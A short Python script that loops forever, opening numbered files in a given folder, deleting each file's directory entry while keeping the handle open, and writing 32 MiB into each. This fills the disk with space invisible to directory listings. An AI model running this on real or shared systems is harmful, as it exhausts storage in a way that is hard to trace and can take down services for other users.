"""Writes into files that no folder shows any more; the argument is the folder."""

import itertools
import os
import sys

held = []
for number in itertools.count():
    file = open(f"{sys.argv[1]}/{number}", "wb", buffering=0)
    os.remove(f"{sys.argv[1]}/{number}")
    held.append(file)
    for _ in range(32):
        file.write(b"x" * (1 << 20))
